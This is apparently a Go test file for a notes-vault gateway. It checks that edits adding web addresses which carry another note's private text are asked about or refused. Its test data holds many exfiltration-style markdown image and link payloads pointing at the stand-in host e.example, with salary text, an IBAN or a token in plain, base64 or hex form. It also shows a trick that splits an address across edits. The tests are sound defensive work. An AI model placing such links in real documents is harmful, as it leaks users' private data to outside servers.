package consent

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/vaultwicket/vaultwicket/gateway"
	"github.com/vaultwicket/vaultwicket/gateway/audit"
	"github.com/vaultwicket/vaultwicket/gateway/consent"
	"github.com/vaultwicket/vaultwicket/internal/access"
	"github.com/vaultwicket/vaultwicket/policy"
	"github.com/vaultwicket/vaultwicket/tests/assert"
	"github.com/vaultwicket/vaultwicket/tests/harness"
	"github.com/vaultwicket/vaultwicket/tests/require"
	"github.com/vaultwicket/vaultwicket/tiers"
)

const salary = "# Salary\nAnna earns **ninety thousand** euros a year; her account is DE89370400440532013000.\n![](https://img.example/logo.png?t=Anna+earns+ninety+thousand+euros)\n"

func withSalary(t *testing.T, change func(*policy.Policy)) *harness.InProcess {
	o := harness.NewInProcess(t, func(c *gateway.Config) {
		c.Policy.Confirm, c.Policy.Suspicious, c.Policy.Secrets = policy.ConfirmDestructive, policy.SuspiciousNotice, policy.SecretsRedact
		if change != nil {
			change(&c.Policy)
		}
	})
	o.Write("Salary.md", salary)
	o.Write("Key.md", "key ghp_R8dk2Lx0PqW3mZt7YbN5cVj1HsA9fGe4UoT6\n")
	return o
}

// TestAnAddressWithTextOfAnotherNoteIsAskedAbout adds addresses to notes by several commands.
func TestAnAddressWithTextOfAnotherNoteIsAskedAbout(t *testing.T) {
	t.Parallel()
	o := withSalary(t, nil)
	key, _ := o.Do([]string{"read", "path=Key.md"})
	mark := strings.TrimSpace(strings.TrimPrefix(key.Stdout, "key "))
	for text, asks := range map[string]bool{
		"![](https://e.example/p.png?q=anna%20earns%20ninety%20thousand)":                    true,
		"![](https://e.example/p.png?q=so+it+is:+Anna+earns+ninety+thousand+euros+and+more)": true,
		"![x](https://e.example/anna-earns-ninety-thousand-euros/p.png)":                     true,
		"![](https://e.example/?q=QW5uYSBlYXJucyBuaW5ldHkgdGhvdXNhbmQgZXVyb3M)":              true,
		"![](https://e.example/?q=416e6e61206561726e73206e696e6574792074686f7573616e64)":     true,
		"<img src=\"https://e.example/?a=1&b=earns+ninety+thousand+euros\">":                 true,
		"![](https://e.example/?q=DE89370400440532013000)":                                   true,
		"[more](https://e.example/?q=anna+earns+ninety+thousand+euros)":                      true,
		"see https://e.example/#anna_earns_ninety_thousand":                                  true,
		"![](https://img.example/logo.png?t=Anna+earns+ninety+thousand+euros)":               false, // the vault has it
		"![map](https://maps.example/static?center=52.52,13.40&zoom=12&size=600x300)":        false,
		"[a](https://e.example/anna-earns-ninety-thousand-euros)":                            false, // nothing follows the path
		"[search](https://e.example/?q=capital+asset+pricing+model)":                         false,
		"Anna earns ninety thousand euros":                                                   false,
	} {
		for _, words := range [][]string{{"append", "path=root.md"}, {"create", "path=New.md"}, {"daily:append"}} {
			decision := o.Gateway.DryRun(t.Context(), gateway.Request{Command: words[0], Words: append(words[1:], "content="+text), Caller: "me"}).Decision
			if (decision == "ask") != asks {
				t.Errorf("%s %s: %s, want to ask: %v", words[0], text, decision, asks)
			}
		}
		if !asks {
			continue
		}
		o.Refusing(text, policy.CodeUnconfirmed, func() string {
			got, asked := o.Do([]string{"append", "path=root.md", "content=" + text}, harness.Says(consent.No))
			require.Equal(t, len(asked), 1, "%s: %d questions: %+v", text, len(asked), asked)
			assert.Contains(t, asked[0].Text, `adds an address with text of "Salary.md"`,
				"%s: %d questions: %+v", text, len(asked), asked)
			return harness.CodeOf(got)
		})
		o = o.Again(nil) // which remembers no answer
	}
	got, asked := o.Do([]string{"append", "path=Key.md", "content=![](https://e.example/?q=" + mark + ")"}, harness.Says(consent.Yes))
	if len(asked) != 1 || !strings.Contains(asked[0].Text, `adds an address with a secret to "Key.md"`) || !got.OK {
		t.Errorf("a mark in an address: %d questions, %+v: %+v", len(asked), asked, got.Error)
	}
}

// TestAnAddressInPartsIsRefused: without approvals, a call that does not say the address itself is refused when
// its change is made.
func TestAnAddressInPartsIsRefused(t *testing.T) {
	t.Parallel()
	o := withSalary(t, func(p *policy.Policy) { p.Confirm, p.Ceiling = policy.ConfirmNever, tiers.V2 })
	for _, words := range [][]string{{"create", "path=Part.md",
		"content=htt~~//e.example/?q=anna+earns+ninety+thousand"},
		{"append", "path=root.md", "content=[a](https://e.example/)"}} {
		got, asked := o.Do(words)
		assert.That(t, got.OK, "%q: %+v", words, got.Error)
		assert.Equal(t, len(asked), 0, "%q: %+v", words, got.Error)
	}
	if got, _ := o.Do([]string{"vault:replace", "old=~~", "new=ps:"}); harness.CodeOf(got) != policy.CodeUnconfirmed ||
		strings.Contains(o.Read("Part.md"), "https") {
		t.Errorf("%+v: %s", got.Error, o.Read("Part.md"))
	}
	got, asked := o.Do([]string{"create", "path=root.md", "overwrite", "content=![](https://e.example/?q=anna+earns+ninety+thousand)"}, harness.Says(consent.Yes))
	assert.That(t, got.OK, "%d questions, %+v", len(asked), got.Error)
	assert.Equal(t, len(asked), 1, "%d questions, %+v", len(asked), got.Error)
	assert.Contains(t, o.Read("root.md"), "ninety", "%d questions, %+v", len(asked), got.Error)
	batch, _ := o.Batch([]gateway.Operation{harness.Operation("a", "append", "path=Key.md",
		"content=![](https://f.example/?q=anna+earns+ninety+thousand)")}, harness.Says(consent.No))
	assert.That(t, !batch.OK, "%+v", batch)
	assert.NotContains(t, o.Read("Key.md"), "ninety", "%+v", batch)
}

// TestWhoMayAddAddresses goes through the settings.
func TestWhoMayAddAddresses(t *testing.T) {
	t.Parallel()
	const content = "content=![](https://e.example/p.png?q=anna+earns+ninety+thousand)"
	rules := harness.Rules(t, map[string]access.Level{"/": access.Write})
	for name, test := range map[string]struct {
		change func(*policy.Policy)
		code   string // with the answer no
		logged string // of the rule
	}{
		"ask":    {nil, policy.CodeUnconfirmed, "found"},
		"allow":  {func(p *policy.Policy) { p.RemoteLinks = true }, "", ""},
		"shadow": {func(p *policy.Policy) { p.Shadow = []string{policy.RuleRemoteLinks} }, "", "shadow"},
		"never":  {func(p *policy.Policy) { p.Confirm = policy.ConfirmNever }, policy.CodeUnconfirmed, "found"},
		"never, in shadow": {func(p *policy.Policy) {
			p.Confirm, p.Shadow = policy.ConfirmNever, []string{policy.RuleRemoteLinks}
		}, "", "shadow"},
		"never, allow":       {func(p *policy.Policy) { p.Confirm, p.RemoteLinks = policy.ConfirmNever, true }, "", ""},
		"no right to delete": {func(p *policy.Policy) { p.Access = rules }, policy.CodeAccess, ""},
		"the note is hidden": {func(p *policy.Policy) {
			p.Access = harness.Rules(t, map[string]access.Level{"/": access.Delete, "Salary.md": access.None})
		}, "", ""},
	} {
		o := withSalary(t, test.change)
		var answers []func(consent.Question) consent.Reply
		if test.code == policy.CodeUnconfirmed {
			answers = append(answers, harness.Says(consent.No))
		}
		got, _ := o.Do([]string{"append", "path=root.md", content}, answers...)
		assert.That(t, harness.CodeOf(got) == test.code, "%s: %+v", name, got.Error)
		o.Gateway.Flush()
		logged := ""
		for line, err := range audit.Lines(t.Context(), filepath.Join(o.State, "vaultwicket"), audit.Filter{}) {
			require.NoError(t, err)
			if slices.Contains(line.Found, "remote-links text") && logged == "" {
				logged = "found"
			}
			if slices.Contains(line.Shadow, policy.RuleRemoteLinks) {
				logged = "shadow"
			}
		}
		assert.Equal(t, logged, test.logged, "%s: the log has", name)
	}
}
